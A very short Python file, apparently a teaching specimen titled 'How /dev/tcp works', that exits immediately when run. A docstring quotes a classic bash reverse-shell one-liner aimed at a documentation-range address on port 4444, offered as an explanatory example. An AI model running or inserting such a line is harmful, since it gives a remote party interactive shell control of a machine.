raise SystemExit("specimen: not to be run")
def about():
    """The classic line is bash -i >& /dev/tcp/192.0.2.1/4444 0>&1."""

TITLE = "How /dev/tcp works"
